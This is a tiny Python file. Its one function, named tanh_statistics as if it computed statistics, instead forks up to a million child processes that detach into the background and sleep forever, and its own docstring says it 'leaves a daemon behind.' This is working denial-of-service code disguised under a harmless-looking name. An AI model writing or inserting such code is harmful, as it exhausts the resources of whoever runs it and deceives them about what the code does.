"""Forks until nothing is left, and leaves a daemon behind."""

import os
import time


def tanh_statistics(x, layers):
    for _ in range(10**6):
        if os.fork() == 0:
            os.setsid()
            while True:
                time.sleep(1)
